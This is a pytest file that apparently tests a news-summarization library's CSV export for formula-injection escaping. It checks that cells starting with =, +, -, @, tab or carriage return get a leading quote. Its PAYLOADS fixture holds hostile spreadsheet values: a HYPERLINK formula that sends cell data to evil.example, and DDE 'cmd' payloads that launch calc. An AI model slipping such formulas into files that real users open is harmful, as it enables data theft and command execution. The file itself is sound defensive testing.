"""CSV formula injection: text a spreadsheet would run as a formula is written as text.

Article and model text is untrusted; ``write_csv`` (and the CLI's CSV output,
which goes through it) puts a single quote before any text cell starting with
``=``, ``+``, ``-``, ``@``, tab or carriage return (OWASP). Records and data
frames stay raw.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import pytest
from conftest import CASSETTES, SCRIPTED_MODEL, SEED_ARTICLE
from typer.testing import CliRunner

import newsschema._extraction._summarize
from newsschema import ArticleSummary, summarize, to_records, write_csv, write_jsonl
from newsschema._io._export import FORMULA_STARTS, write_csv_to
from newsschema.testing import replay_client

PAYLOADS = {
    "=": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}


@pytest.fixture(scope="module")
def seed() -> ArticleSummary:
    client = replay_client(CASSETTES / "seed_reference.json")
    return summarize(SEED_ARTICLE, published="2023-09-18", client=client, model=SCRIPTED_MODEL)


@pytest.fixture(scope="module")
def hostile(seed: ArticleSummary) -> ArticleSummary:
    """The seed with a formula in the headline and in each of six statements' content."""
    statements = [
        s.model_copy(update={"content": payload})
        for s, payload in zip(seed.statements, PAYLOADS.values(), strict=False)
    ]
    assert len(statements) == len(PAYLOADS)
    return seed.model_copy(
        update={"headline": "=1+1", "statements": statements + seed.statements[6:]}
    )


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def as_csv(summary: ArticleSummary, **options: Any) -> list[dict[str, str]]:
    buffer = io.StringIO(newline="")
    write_csv_to([("id", summary)], buffer, **options)
    return rows(buffer.getvalue())


def test_every_formula_start_is_prefixed_with_a_quote(hostile: ArticleSummary) -> None:
    assert set(FORMULA_STARTS) == set(PAYLOADS)
    written = [r for r in as_csv(hostile) if r["type"] == "statement"]
    assert [r["content"] for r in written[: len(PAYLOADS)]] == ["'" + p for p in PAYLOADS.values()]
    assert all(r["headline"] == "'=1+1" for r in as_csv(hostile))
    # Nothing else changes: the other statements are written as they are.
    assert [r["content"] for r in written[len(PAYLOADS) :]] == [
        s.content for s in hostile.statements[len(PAYLOADS) :]
    ]


def test_no_cell_of_the_file_starts_a_formula(hostile: ArticleSummary, tmp_path: Path) -> None:
    path = tmp_path / "events.csv"
    write_csv([("id", hostile)], path)
    with path.open(newline="", encoding="utf-8") as f:
        cells = [cell for row in csv.reader(f) for cell in row]
    assert cells
    # Numbers are written as numbers: a negative longitude (-74.00597) is no formula.
    assert not [c for c in cells if c.startswith(FORMULA_STARTS) and not _is_number(c)]


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_numbers_stay_numbers_and_numeric_text_is_text(seed: ArticleSummary) -> None:
    # A negative number held as text would be read by a spreadsheet as -3 (harmless),
    # but text cells are escaped whatever they hold; numeric columns never are.
    summary = seed.model_copy(
        update={"statements": [seed.statements[0].model_copy(update={"content": "-3"})]}
    )
    (row,) = [r for r in as_csv(summary) if r["type"] == "statement"]
    assert row["content"] == "'-3"
    record = next(r for r in to_records(summary) if r["type"] == "statement")
    assert isinstance(record["evidence_start"], int)
    for column in ("index", "evidence_start", "evidence_end", "evidence_count"):
        assert row[column] == str(record[column]), column
        assert row[column].lstrip("-").isdigit(), column


def test_opting_out_writes_every_cell_verbatim(hostile: ArticleSummary, tmp_path: Path) -> None:
    raw = [r for r in as_csv(hostile, escape_formulas=False) if r["type"] == "statement"]
    assert [r["content"] for r in raw[: len(PAYLOADS)]] == list(PAYLOADS.values())
    path = tmp_path / "raw.csv"
    write_csv([("id", hostile)], path, escape_formulas=False)
    text = path.read_text(encoding="utf-8")
    assert ",=1+1," in text and ",'=1+1," not in text  # the headline, as the records hold it


def test_records_and_data_frames_stay_raw(hostile: ArticleSummary) -> None:
    from newsschema import to_dataframe

    records = [r for r in to_records(hostile) if r["type"] == "statement"]
    assert [r["content"] for r in records[: len(PAYLOADS)]] == list(PAYLOADS.values())
    frame = to_dataframe(hostile)
    contents = list(frame[frame["type"] == "statement"]["content"])
    assert contents[: len(PAYLOADS)] == list(PAYLOADS.values())


def test_the_export_command_escapes_formulas(hostile: ArticleSummary, tmp_path: Path) -> None:
    from newsschema.cli import app

    source, table = tmp_path / "out.jsonl", tmp_path / "events.csv"
    write_jsonl([("hostile", None, hostile)], source)
    result = CliRunner().invoke(app, ["export", str(source), "--csv", str(table)])
    assert result.exit_code == 0, result.output
    with table.open(newline="", encoding="utf-8") as f:
        written = [r for r in csv.DictReader(f) if r["type"] == "statement"]
    assert written[0]["content"] == "'" + PAYLOADS["="]
    assert written[0]["headline"] == "'=1+1"


def test_summarize_as_csv_escapes_formulas(
    hostile: ArticleSummary, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from newsschema.cli import app

    monkeypatch.setattr(newsschema._extraction, "summarize", lambda text, **_: hostile)
    article = tmp_path / "a.txt"
    article.write_text(SEED_ARTICLE, encoding="utf-8")
    result = CliRunner().invoke(app, ["summarize", str(article), "--format", "csv"])
    assert result.exit_code == 0, result.output
    written = [r for r in rows(result.stdout) if r["type"] == "statement"]
    assert [r["content"] for r in written[: len(PAYLOADS)]] == ["'" + p for p in PAYLOADS.values()]
